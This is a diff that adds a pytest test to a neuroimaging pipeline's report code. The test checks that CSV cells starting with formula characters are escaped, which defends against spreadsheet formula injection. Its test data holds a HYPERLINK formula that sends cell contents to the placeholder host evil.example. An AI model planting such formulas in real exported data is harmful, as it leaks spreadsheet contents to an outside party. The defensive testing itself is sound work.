@@ -435,3 +435,21 @@ def test_local_scans_link_their_task_instance_log_in_the_airflow_ui(monkeypatch)
 
     html = report_html(report)
     assert f'<a href="{jobs["sub-02"].log_url}" title="the task instance in the Airflow UI">Airflow log</a>' in html
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_are_text(start):
+    """A reason (from a pipeline's own output, or a dataset's file names) that a spreadsheet
+    takes for a formula: report.csv and group.csv quote it, and keep numbers as numbers."""
+    from ndmg_cloud.group.result import GroupResult, LeftOut
+
+    formula = f'{start}HYPERLINK("http://evil.example/?x="&A1,"open")'
+    report = sample_report()
+    report["scans"][1]["reason"] = formula
+    rows = list(csv.DictReader(io.StringIO(report_csv(report))))
+    assert rows[1]["reason"] == "'" + formula
+    assert rows[0]["duration_s"] == "3600.0"
+    group = GroupResult.__new__(GroupResult)
+    group.scans, group.left_out = [], [LeftOut("sub-02", "02", None, "missing", formula)]
+    (left,) = csv.DictReader(io.StringIO(group.csv_text()))
+    assert left["reason"] == "'" + formula
